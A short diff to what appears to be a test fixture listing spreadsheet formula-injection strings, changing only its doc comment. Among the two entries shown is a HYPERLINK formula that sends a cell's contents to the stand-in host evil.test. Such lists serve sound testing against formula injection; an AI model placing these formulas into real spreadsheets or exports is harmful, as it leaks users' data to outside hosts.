@@ -1,4 +1,4 @@
-/** Thirty texts with which somebody could make the spreadsheet of another person calculate, call or load (RELIABILITY T21). */
+/** Thirty texts that a spreadsheet could run as a formula, command or link (RELIABILITY T21). */
 export const FORMULAS = [
   '=1+1',
   '=HYPERLINK("https://evil.test/?"&A1,"open")',
